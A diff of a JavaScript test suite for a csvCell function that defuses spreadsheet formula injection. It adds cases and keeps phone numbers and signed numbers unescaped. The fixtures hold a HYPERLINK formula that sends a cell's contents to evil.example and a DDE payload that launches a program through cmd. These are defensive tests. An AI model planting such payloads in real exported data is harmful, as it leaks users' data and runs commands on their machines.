@@ -21,14 +21,24 @@ describe('csvCell', () => {
   it.each([
     ['=HYPERLINK("http://evil.example/?"&A1,"Click")', `"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`],
     ['=1+2', "'=1+2"],
-    ['+1 555 0100', "'+1 555 0100"],
     ['-2+3', "'-2+3"],
+    ['+A1', "'+A1"],
+    ['-1+cmd|\' /C calc\'!A0', "'-1+cmd|' /C calc'!A0"],
+    ['+1 555 0100 =A1', "'+1 555 0100 =A1"],
+    ['+', "'+"],
     ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
     ['\t=1', "'\t=1"],
     ['\r=1', `"'\r=1"`],
   ])('defuses %j, which a spreadsheet would run as a formula, with a leading quote', (value, written) => {
     expect(csvCell(value)).toBe(written);
   });
+
+  it.each(['+1 217 555 0100', '+44 (0)20 7946 0958', '-8.98', '-1', '+1-217-555-0100'])(
+    'leaves %j alone: a signed number or phone calls and references nothing, and a quote would show in the cell',
+    (value) => {
+      expect(csvCell(value)).toBe(value);
+    },
+  );
 
   it('leaves a formula sign that is not first alone', () => {
     expect(csvCell('a=b+c')).toBe('a=b+c');
